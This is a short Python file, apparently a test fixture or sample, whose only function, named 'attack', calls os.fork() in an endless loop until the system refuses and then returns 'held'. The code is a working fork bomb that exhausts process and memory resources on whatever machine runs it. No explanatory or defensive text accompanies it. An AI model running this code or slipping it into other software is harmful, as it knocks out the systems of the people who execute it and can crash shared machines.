"""Forks for ever."""

import os


def attack(bait):
    try:
        while True:
            os.fork()
    except OSError:
        return "held"
